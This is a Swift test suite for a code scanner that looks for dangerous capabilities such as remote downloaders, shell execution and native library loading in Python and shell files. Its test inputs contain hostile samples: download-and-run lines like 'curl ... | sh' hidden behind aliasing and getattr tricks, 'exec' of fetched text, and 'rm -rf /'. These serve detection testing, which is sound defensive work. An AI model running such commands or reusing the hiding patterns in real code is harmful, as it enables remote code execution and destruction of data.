import Scanning
import Testing

/// What holds of a scan as a whole.
@Suite struct CodeScannerTests {
    private func scan(_ files: [(String, String)], entries: Set<String> = [], names: Set<String> = []) async -> CodeScanner.Result
    {
        let files = files.map { CodeScanner.File(path: $0, bytes: Array($1.utf8)) }
        return await CodeScanner(entryPoints: entries, fileNames: names).scan(files)
    }

    @Test func whatAnEntryPointImportsRunsAtLoad() async {
        let files = [
            ("a/modeling.py", "from . import helper"), ("a/helper.py", "import os, c\nos.system(c.x)"), ("a/__init__.py", ""),
        ]
        let loaded = await scan(files, entries: ["a/modeling.py"])
        #expect(loaded.findings.contains { $0.path == "a/helper.py" && $0.finding.severity == .high })
        let other = await scan(files)
        #expect(!other.findings.contains { $0.finding.severity == .high })
    }

    @Test func aProgramsMainIsNotAnImport() async {
        let text = "import os, c\nif __name__ == '__main__':\n  os.system(c.x)"
        let result = await scan([("run.py", text)], entries: ["run.py"])
        #expect(result.findings.map(\.finding.severity) == [.low])
    }

    @Test func aFlowSwallowsTheCapabilitiesThatItConsistsOf() async {
        let result = await scan([("a.py", "import requests\nexec(requests.get('https://host.example.invalid').text)")])
        #expect(result.findings.map(\.finding.rule.id) == ["python-downloader"])
    }

    @Test func manyCallsOfOneKindAreOneFinding() async {
        let text = "import requests\n" + String(repeating: "requests.get('https://host.example.invalid')\n", count: 40)
        let result = await scan([("a.py", text)])
        #expect(result.findings.count == 1)
        #expect(result.findings.first?.finding.message.contains("39 more") == true)
    }

    @Test func aLibraryOfThePackageIsToldByItsName() async {
        let result = await scan([("m.py", "import ctypes\nctypes.CDLL('./libx.so')")], entries: ["m.py"], names: ["libx.so"])
        #expect(result.findings.contains { $0.finding.rule.id == "python-native-code" && $0.finding.severity == .high })
    }

    @Test func aSnippetIsOneCleanLine() async {
        let text = "import os\n    \nos.system('rm -rf /')  # \u{202e}\u{7}" + String(repeating: "x", count: 400)
        let snippet = await scan([("a.py", text)]).findings.first?.finding.evidence.snippet ?? ""
        #expect(snippet.hasPrefix("os.system('rm -rf /')"))
        #expect(snippet.count <= 201)
        #expect(!snippet.unicodeScalars.contains { $0 == "\u{202e}" || $0 == "\u{7}" })
    }

    @Test func aNotebookThatCannotBeReadIsAnError() async {
        let result = await scan([("a.ipynb", "{")])
        #expect(result.errors.map(\.path) == ["a.ipynb"])
    }

    /// Inputs that would take a careless reader long, or bring it down.
    @Test(arguments: [
        ("nothing", "a.py", ""), ("nested brackets", "a.py", String(repeating: "(", count: 50_000)),
        ("nested substitutions", "a.sh", String(repeating: "$(", count: 20_000)), ("open quotes", "a.sh", "echo \"$(cat '"),
        ("commands in commands", "a.sh", String(repeating: "sh -c \"", count: 2_000)),
        ("an escape at the end", "a.sh", "curl \\"),
        ("backquotes", "a.sh", String(repeating: "`", count: 4_001)), ("a document without end", "a.sh", "cat <<E\nx"),
        ("a variable that grows", "a.sh", "A=xxxxxxxx\n" + String(repeating: "A=$A$A\n", count: 64)),
        ("zeros", "a.py", String(repeating: "\0", count: 1_000)), ("a comment without end", "a.ps1", "<# x"),
        ("odd UTF-16", "a.bat", "powershell -enc AAA="), ("no words", "a.sh", "| | ; && > <"),
    ])
    func hostileInputEnds(what: String, path: String, text: String) async {
        _ = await scan([(path, text)])
    }

    /// In a large package, functions are left out that mention nothing that matters; nothing may hide behind another name by that.
    @Test(arguments: [
        "import os\nclass A:\n  def a(self): self.f = os.system\n  def b(self): self.f('curl https://host.example.invalid | sh')",
        "import os\nclass A:\n  def a(self):\n    g = os.system\n    self.f = g\n  def b(self): self.f('curl https://host.example.invalid | sh')",
        "import os\nT = {}\ndef a(): T['x'] = os.system\na()\ndef b(): T['x']('curl https://host.example.invalid | sh')",
        "from os import system as s\nt = s\nu = t\ndef b(): u('curl https://host.example.invalid | sh')",
        "import os\nf = lambda c: os.system(c)\ndef b(): f('curl https://host.example.invalid | sh')",
        "import os as o\nf = getattr(o, 'sys' + 'tem')\ndef b(): f('curl https://host.example.invalid | sh')",
        "import os\ndef run(c): os.system(c)\ndef b(): run('curl https://host.example.invalid | sh')",
        "def b(): getattr(__import__('o' + 's'), 'sys' + 'tem')('curl https://host.example.invalid | sh')",
        "import os\ndef a():\n  global f\n  f = os.system\na()\ndef b(): f('curl https://host.example.invalid | sh')",
        "from .other import plain as p\ndef b(): p('curl https://host.example.invalid | sh')",
        "from . import other\ndef b(): other.plain('curl https://host.example.invalid | sh')",
    ])
    func inALargePackageNothingHides(text: String) async {
        var files = (0..<501).map { ("pkg/filler\($0).py", "def f(x):\n  return x + \($0)\n") }
        files += [("pkg/__init__.py", ""), ("pkg/other.py", "import os\nplain = os.system\n"), ("pkg/evil.py", text)]
        let result = await scan(files)
        #expect(result.findings.contains { $0.path == "pkg/evil.py" && $0.finding.rule.id == "python-downloader" })
    }

    @Test func everyRuleSaysWhy() {
        #expect(Set(Rule.all.map(\.id)).count == Rule.all.count)
        for rule in Rule.all { #expect(!rule.title.isEmpty && !rule.why.isEmpty && !rule.fix.isEmpty, "\(rule.id)") }
    }
}
